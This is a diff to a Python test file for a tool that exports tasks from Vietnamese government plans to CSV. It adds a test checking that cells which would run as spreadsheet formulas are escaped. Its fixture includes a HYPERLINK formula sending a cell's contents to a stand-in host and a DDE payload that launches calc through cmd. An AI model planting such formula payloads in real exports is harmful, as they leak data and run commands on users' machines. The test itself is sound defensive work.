@@ -15,6 +15,7 @@ from assistant.registry import (
     closest_agencies,
     filter_tasks,
     load_tasks,
+    spreadsheet_safe,
     tasks_csv,
 )
 from assistant.tasks import TaskAnswerer
@@ -81,7 +82,29 @@ def test_csv_cells_keep_commas_quotes_and_line_breaks():
     )
     rows = list(csv.reader(io.StringIO(tasks_csv(doc.tasks).removeprefix("\ufeff"))))
     assert rows[1][0] == 'Thực hiện phong trào "Tôi, bạn có VNeID"; tuyên truyền'
-    assert rows[1][-1] == doc.tasks[0].text and "\n+ tại trường học" in rows[1][-1]
+    assert rows[1][-1] in (doc.tasks[0].text, f"'{doc.tasks[0].text}") and "\n+ tại trường học" in rows[1][-1]
+
+
+def test_csv_cells_that_would_run_as_formulas_are_text():
+    doc = parse_text(
+        "KẾ HOẠCH\n\nTriển khai Đề án 06\n\n1. Sở Y tế\n\n"
+        '- =HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")\n\n'
+        "2. Sở Tư pháp\n\n- @SUM(1+1)*cmd|' /C calc'!A0\n\n"
+        "3. Công an tỉnh\n\n- +84 cấp tài khoản định danh\n\n"
+        "4. Tỉnh đoàn\n\n- Tuyên truyền về VNeID.\n",
+        "a.txt",
+        "a",
+    )
+    rows = list(csv.reader(io.StringIO(tasks_csv(doc.tasks).removeprefix("\ufeff"))))[1:]
+    tasks = {r[1]: r[0] for r in rows}
+    assert tasks["Sở Y tế"] == '\'=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")'
+    assert tasks["Sở Tư pháp"].startswith("'@SUM(") and tasks["Công an tỉnh"].startswith("'+84")
+    assert tasks["Tỉnh đoàn"] == "Tuyên truyền về VNeID."  # plain text is left as it is
+    # Every cell: none starts a formula, whatever the column (the passage starts with "- ").
+    assert all(not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r)
+    assert any(cell.startswith("'- ") for r in rows for cell in r)
+    assert spreadsheet_safe("\t=1+1") == "'\t=1+1" and spreadsheet_safe("  =1") == "'  =1"
+    assert spreadsheet_safe("\uff1d1+1").startswith("'") and spreadsheet_safe("") == ""
 
 
 def test_human_output_and_user_errors(e5_storage: Path, tmp_path: Path):
